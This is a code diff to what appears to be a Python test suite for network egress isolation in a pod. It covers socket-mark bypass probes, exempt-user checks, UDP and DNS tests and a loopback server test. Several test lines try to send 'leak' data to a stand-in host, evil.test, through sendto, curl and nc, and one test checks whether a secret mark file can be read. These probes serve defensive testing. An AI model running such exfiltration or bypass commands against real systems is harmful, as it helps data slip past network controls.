@@ -4,9 +4,11 @@ import socket
 import struct
 
 from driver.errors import Failed
+from driver.group import INBOUND
 from lab import until
 from lab.internet import FAMILY, V4
 from lab.node import PROXY_UID
+from lab.talk import Server, Talk
 
 IP_NODEFRAG = 22
 SOL_PACKET, PACKET_QDISC_BYPASS = 263, 20
@@ -114,7 +116,7 @@ def bypasses(run):
     options += [(socket.SOL_SOCKET, socket.SO_MARK, struct.pack("I", mark)) for mark in (1337, 0x736c7563, 0x736c7501, 1)]
     for option in options:
         with run.pod.space.socket(FAMILY[run.family]) as sock:
-            sock.settimeout(5)
+            sock.settimeout(1)
             sock.setsockopt(*option)
             answer = b""
             try:
@@ -128,8 +130,68 @@ def bypasses(run):
             sock.setsockopt(*option)
             attempt(lambda sock=sock: sock.sendto(b"leak", run.endpoint("evil.test:443")))
     for uid in (PROXY_UID, 0):
-        done = run.command(f"curl -sS -m 5 -o /dev/null -w '%{{http_code}}' -{run.family} http://evil.test/", uid=uid)
+        done = run.command(f"curl -sS -m 2 -o /dev/null -w '%{{http_code}}' -{run.family} http://evil.test/", uid=uid)
         run.expect(done.stdout.strip() != "200", f"uid {uid}: the request went out")
         run.command(f"nc -{run.family} -u -w 1 @{{evil.test}} 443", uid=uid, stdin="leak")
     run.expect(run.command(f"cat {run.node.state}/mark").returncode != 0, "an application can read the secret mark")
     barrier(run)
+
+
+def exempt_user(run):
+    code, _, _ = run.curl("http://evil.test/echo", uid=2000)
+    run.expect(code == "200", f"the exempt user: {code}")
+    code, _, _ = run.curl("http://evil.test/echo", uid=2001)
+    run.expect(code == "502", f"another user: {code}")
+
+
+def udp_passes(run):
+    with run.internet.space.socket(FAMILY[run.family], socket.SOCK_DGRAM) as server, \
+            run.pod.space.socket(FAMILY[run.family], socket.SOCK_DGRAM) as client:
+        server.bind(run.endpoint("evil.test:9999"))
+        for sock in (server, client):
+            sock.settimeout(5)
+        client.sendto(b"ping", run.endpoint("evil.test:9999"))
+        data, sender = server.recvfrom(100)
+        server.sendto(b"pong", sender)
+        run.expect(data == b"ping" and client.recv(100) == b"pong", "UDP does not go through")
+
+
+def dns_refused(run):
+    """A question to the name server, in both ways."""
+    question = b"\0\7\1\0\0\1\0\0\0\0\0\0\6origin\4test\0\0\1\0\1"
+    with run.pod.space.socket(FAMILY[run.family], socket.SOCK_DGRAM) as sock:
+        sock.settimeout(5)
+        try:
+            sock.connect((run.pod.nameserver, 53))
+            sock.send(question)
+            sock.recv(512)
+        except (ConnectionRefusedError, PermissionError):
+            pass
+        else:
+            raise Failed("an application's DNS question was answered")
+    with run.pod.space.socket(FAMILY[run.family]) as sock:
+        sock.settimeout(5)
+        try:
+            sock.connect((run.pod.nameserver, 53))
+            sock.sendall(len(question).to_bytes(2, "big") + question)
+            answer = sock.recv(512)
+        except OSError:
+            answer = b""
+        run.expect(not answer, "an application's DNS question over TCP was answered")
+
+
+def local(run):
+    """A server in the pod: reached over loopback, over the pod's own address, and from outside."""
+    listener = run.pod.space.socket(FAMILY[run.family])
+    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+    listener.bind(("::" if run.family != V4 else "0.0.0.0", INBOUND))
+    listener.listen(8)
+    server = Server(run.lab, listener, ["recv ping", "send pong", "hold"])
+    run.servers.append(server)
+    server.wanted = 3
+    here, own = run.group.address("loopback", False), run.group.address("pod", False)
+    for space, address in ((run.pod.space, here), (run.pod.space, own), (run.internet.space, own)):
+        sock = space.socket(FAMILY[run.family])
+        sock.settimeout(5)
+        sock.connect((address, INBOUND))
+        Talk(sock).play(["send ping", "recv pong", "close"])
